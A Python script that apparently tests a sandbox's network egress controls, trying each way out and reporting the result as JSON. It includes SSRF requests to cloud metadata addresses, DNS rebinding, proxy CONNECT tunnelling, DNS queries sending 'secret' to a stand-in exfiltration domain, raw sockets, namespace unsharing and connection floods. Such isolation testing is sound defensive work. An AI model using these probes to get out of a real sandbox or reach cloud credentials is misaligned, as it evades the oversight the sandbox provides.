"""What a program in a sandbox reaches, by every way out that it can try; prints JSON: by way, an answer or an error."""

import asyncio
import contextlib
import ctypes
import json
import os
import socket
import struct
import threading
import time
import urllib.request

TIMEOUT_SECONDS = 20
PUBLIC, OTHER = "93.184.216.34", "151.101.1.1"
opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))


def get(url):
    with opener.open(url, timeout=TIMEOUT_SECONDS) as answer:
        return json.loads(answer.read())


def size_of(url):
    with opener.open(url, timeout=TIMEOUT_SECONDS) as answer:
        return len(answer.read())


def posted(url):
    with opener.open(url, data=bytes(5 << 20), timeout=TIMEOUT_SECONDS) as answer:
        return int(answer.read())


def rebound(url):
    # A name that leads to another address each time that it is resolved.
    found = set()
    for _ in range(4):
        with contextlib.suppress(OSError):
            found.add(get(url)[0])
    return sorted(found) or "nothing"


def connect_through(host, port):
    with socket.create_connection((host, port), TIMEOUT_SECONDS) as proxy:
        proxy.sendall(b"CONNECT 10.7.0.5:80 HTTP/1.1\r\nHost: x\r\n\r\n")
        return int(proxy.recv(100).split()[1])


def mapped(address, port):
    with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as client:
        client.settimeout(TIMEOUT_SECONDS)
        client.connect((f"::ffff:{address}", port))
        client.sendall(b"GET / HTTP/1.0\r\n\r\n")
        return client.recv(100).decode()[:12]


def datagram(address, port, message=b"secret", **options):
    with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(2)
        if options.get("device"):
            client.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, options["device"])
        client.sendto(message, (address, port))
        return client.recv(2000)


def question(name, kind):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!6H", 9, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", kind, 1)


def code_of(answer):
    return answer[3] & 15


def asked(address, name, kind=1):
    return code_of(datagram(address, 53, question(name, kind)))


def asked_over_tcp(address, name):
    message = question(name, 1)
    with socket.create_connection((address, 53), TIMEOUT_SECONDS) as server:
        server.sendall(len(message).to_bytes(2, "big") + message)
        return code_of(server.recv(2000)[2:])


def raw(family, kind, protocol):
    with socket.socket(family, kind, protocol):
        return "made"


def set_interface_down():
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as route:
        body = struct.pack("=BxHiII", 0, 0, socket.if_nametoindex("eth0"), 0, 1)
        route.send(struct.pack("=IHHII", 16 + len(body), 16, 5, 0, 0) + body)
        number = -struct.unpack_from("=i", route.recv(4096), 16)[0]
        if number:
            raise OSError(number, os.strerror(number))
        return "down"


def unshare(flags):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(flags):
        raise OSError(ctypes.get_errno(), "unshare")
    return "own"


def serves(port):
    # A server of the sandbox, by each of its own addresses.
    listener = socket.socket(socket.AF_INET6)
    listener.bind(("::", port))
    listener.listen()

    def serve():
        while True:
            client, _ = listener.accept()
            client.sendall(b"own")
            client.close()

    threading.Thread(target=serve, daemon=True).start()
    reached = []
    for address in ("127.0.0.1", "::1", "198.18.0.2", "localhost", socket.gethostname()):
        try:
            with socket.create_connection((address, port), 5) as client:
                reached.append(client.recv(3).decode())
        except OSError as error:
            reached.append(type(error).__name__)
    return sorted(set(reached))


def many(count):
    # At once more than the gate serves and than wait for it: the kernel tries the others again.
    address = socket.gethostbyname("allowed.example")

    async def fetch():
        reader, writer = await asyncio.open_connection(address, 443)
        writer.write(b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        line = await reader.readline()
        writer.close()
        return line.split()[1].decode()

    async def fetch_all():
        return sorted(set(await asyncio.gather(*(fetch() for _ in range(count)))))

    return asyncio.run(asyncio.wait_for(fetch_all(), 2 * TIMEOUT_SECONDS))


def slow_readers(count):
    # Others are served while answers wait that nobody reads.
    waiting = []
    for _ in range(count):
        client = socket.create_connection(("allowed.example", 443), TIMEOUT_SECONDS)
        client.sendall(b"GET /large HTTP/1.1\r\nHost: x\r\n\r\n")
        waiting.append(client)
    try:
        return get("http://allowed.example:443/")[1]
    finally:
        for client in waiting:
            client.close()


def half_closed():
    with socket.create_connection(("allowed.example", 443), TIMEOUT_SECONDS) as client:
        client.sendall(b"GET / HTTP/1.0\r\n\r\n")
        client.shutdown(socket.SHUT_WR)
        return client.makefile("rb").read()[-5:].decode()


def many_questions(count):
    # More than are answered; the gate goes on.
    codes = set()
    for number in range(count):
        try:
            codes.add(asked("198.18.0.1", f"n{number}.exfil.example"))
        except OSError as error:
            codes.add(type(error).__name__)
    for noise in (b"", b"x", bytes(500), b"\xff" * 500):
        with contextlib.suppress(OSError):
            datagram_without_answer("198.18.0.1", 53, noise)
    time.sleep(1)
    return [*sorted(map(str, codes)), get("http://allowed.example:443/")[1]]


def datagram_without_answer(address, port, message):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.sendto(message, (address, port))


URLS = {
    "a name": "http://allowed.example:443/",
    "a name below a wildcard": "http://sub.wild.example:443/",
    "the wildcard itself": "http://wild.example:443/",
    "a name at another port": "http://allowed.example:8080/",
    "another name": "http://other.example:443/",
    "an address": f"http://{OTHER}:443/",
    "the address of an allowed name": f"http://{PUBLIC}:443/",
    "an IPv6 address": "http://[2606:2800:220::1]:443/",
    "a redirect to another name": "http://allowed.example:443/redirect?to=http://other.example:443/",
    "a redirect to a private address": "http://allowed.example:443/redirect?to=http://10.7.0.5:80/",
    "a name of a private address": "http://private.example:443/",
    "a name of a service about the machine": "http://metadata.example:80/",
    "a name of the loopback": "http://loop.example:8000/",
    "a name of IPv4-mapped addresses": "http://mapped.example:443/",
    "a name of the machine itself": "http://own.example:9000/",
    "a name of two addresses": "http://mixed.example:443/",
    "a private address": "http://10.7.0.5:443/",
    "172.16.0.0/12": "http://172.16.9.9:443/",
    "192.168.0.0/16": "http://192.168.9.9:443/",
    "169.254.169.254": "http://169.254.169.254:80/",
    "100.100.100.200": "http://100.100.100.200:80/",
    "168.63.129.16": "http://168.63.129.16:80/",
    "fd00:ec2::254": "http://[fd00:ec2::254]:80/",
    "a unique local address": "http://[fd12::5]:443/",
    "a 6to4 address": "http://[2002:5db8:d822::1]:443/",
    "the machine's private address": "http://192.168.7.2:9000/",
    "the machine's public address": "http://8.8.4.4:9000/",
    "the next router": "http://192.168.7.1:80/",
    "the machine's loopback": "http://127.0.0.1:8000/",
    "the machine's loopback by IPv6": "http://[::1]:9000/",
    "the machine by 0.0.0.0": "http://0.0.0.0:9000/",
    "the gate itself": "http://127.0.0.1:1/",
    "the gate's address": "http://198.18.0.1:80/",
    "an address that means no name": "http://198.19.200.200:443/",
    "a mirror": "http://mirror.example:8080/",
    "a mirror at another port": "http://mirror.example:443/",
}
WAYS = {
    **{name: (lambda url=url: get(url)) for name, url in URLS.items()},
    "a rebound name": lambda: rebound("http://rebound.example:443/"),
    "CONNECT through a host": lambda: connect_through("allowed.example", 443),
    "CONNECT through the gate": lambda: connect_through("198.18.0.1", 443),
    "an IPv4-mapped address": lambda: mapped(OTHER, 443),
    "an IPv4-mapped private address": lambda: mapped("10.7.0.5", 443),
    "UDP": lambda: len(datagram(PUBLIC, 443)),
    "UDP by IPv6": lambda: len(datagram("2606:2800:220::1", 443)),
    "multicast": lambda: len(datagram("224.0.0.251", 5353)),
    "UDP by the other interface": lambda: len(datagram(PUBLIC, 123, device=b"gate\0")),
    "a question to another server": lambda: asked(OTHER, "secret.exfil.example"),
    "a question by IPv6": lambda: asked("2606:2800:220::1", "secret.exfil.example"),
    "a question for a text": lambda: asked("198.18.0.1", "secret.exfil.example", 16),
    "a question over TCP": lambda: asked_over_tcp("198.18.0.1", "secret.exfil.example"),
    "a question over TCP to another server": lambda: asked_over_tcp("192.168.7.1", "secret.exfil.example"),
    "a raw socket": lambda: raw(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
    "a packet socket": lambda: raw(socket.AF_PACKET, socket.SOCK_RAW, 3),
    "a vsock": lambda: raw(40, socket.SOCK_STREAM, 0),
    "rules of the kernel": lambda: raw(socket.AF_NETLINK, socket.SOCK_RAW, 12),
    "ping": lambda: raw(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP),
    "an interface that is set down": set_interface_down,
    "a network namespace": lambda: unshare(0x40000000),
    "a user namespace": lambda: unshare(0x10000000),
    "its own server": lambda: serves(80 if os.getuid() == 0 else 8080),
    "a large answer": lambda: size_of("http://allowed.example:443/large"),
    "a large request": lambda: posted("http://allowed.example:443/"),
    "a half-closed connection": half_closed,
    "slow readers": lambda: slow_readers(20),
    "many connections": lambda: many(300),
    "many questions": lambda: many_questions(900),
}
results = {"user": os.getuid()}
for name, way in WAYS.items():
    try:
        results[name] = way()
    except Exception as error:
        reason = error.reason if isinstance(error, urllib.error.URLError) else error
        results[name] = type(reason).__name__
print(json.dumps(results))
